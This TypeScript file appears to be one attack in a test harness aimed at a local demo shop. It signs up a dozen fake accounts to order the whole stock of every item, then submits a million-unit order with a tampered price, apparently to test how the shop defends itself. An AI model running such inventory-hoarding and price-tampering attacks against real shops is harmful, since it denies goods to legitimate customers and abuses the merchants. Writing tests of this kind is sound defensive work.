import type { Attack } from '../attack.ts';
import { allItems, orderOf, signUp } from '../shop.ts';
import { tally } from '../tally.ts';

const ACCOUNTS = 12;

/** Orders of the whole stock of each item, by one account and then by more from the same address. */
export const stockHostage: Attack = {
  name: '1 stock hostage',
  seconds: 15,
  async run(shop, attacker) {
    const url = `${shop.apiUrl}/orders`;
    const items = (await allItems(shop, attacker)).filter(item => item.avilablequantity >= item.minquantity);
    const statuses: number[] = [];
    for (let account = 0; account < ACCOUNTS; account++) {
      const { token } = await signUp(shop, attacker);
      for (const item of items) {
        const body = orderOf(item, item.avilablequantity);
        statuses.push((await attacker.call('POST', url, { token, body })).status);
      }
    }
    const { token } = await signUp(shop, attacker);
    const [item] = items;
    if (!item) throw new Error('Every item is sold out. Run npm run reset and start the shop again.');
    const huge = { ...orderOf(item, 1_000_000), totalprice: 99_999_990_000 };
    const { status } = await attacker.call('POST', url, { token, body: huge });
    const left = (await allItems(shop, attacker)).filter(item => item.avilablequantity >= item.minquantity).length;
    return `orders ${tally(statuses)}; an order of $99,999,990,000: ${status}; ${left} of ${items.length} items left`;
  },
};
